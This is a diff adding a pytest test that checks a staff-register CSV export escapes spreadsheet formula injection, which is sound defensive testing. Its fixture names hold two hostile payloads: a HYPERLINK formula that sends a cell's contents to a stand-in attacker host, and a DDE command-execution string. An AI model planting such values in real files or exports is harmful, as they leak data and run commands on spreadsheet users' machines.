@@ -280,3 +280,30 @@ def test_round_trip_keeps_agreement_versions_and_retired_items(
         refs = [b["text"] for b in entry["resource"].get("regulatoryBasis", [])]
         assert len(refs) == len(set(refs))
     engine.dispose()
+
+
+def test_the_register_csv_is_safe_in_a_spreadsheet(app: Flask, session: Session, demo: Any,
+                                                   tmp_path: Path) -> None:
+    import csv
+
+    from tests.staff_helpers import person_of
+
+    # Given people whose names were typed as spreadsheet formulas
+    link = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
+    command = "+1+cmd|' /C calc'!A0"
+    person = person_of(session, "fenshire-police", "FP-CSV-1", given=link,
+                       family=command)
+    # When the register is exported
+    folder = tmp_path / "export"
+    assert app.test_cli_runner().invoke(
+        args=["staff", "export-register", str(folder)]).exit_code == 0
+    # Then the CSV cells are text to a spreadsheet, and the JSON Lines keep the exact names
+    with (folder / "subjects.csv").open(encoding="utf-8", newline="") as f:
+        row = next(r for r in csv.DictReader(f) if r["id"] == str(person.id))
+    assert row["given_name"] == "'" + link and row["family_name"] == "'" + command
+    for f_name in (folder / "subjects.csv", folder / "holdings.csv"):
+        cells = [c for r in csv.reader(f_name.open(encoding="utf-8")) for c in r]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    stored = [json.loads(line) for line in (folder / "subjects.jsonl").read_text().splitlines()]
+    assert {"given_name": link, "family_name": command}.items() <= next(
+        r for r in stored if r["id"] == str(person.id)).items()
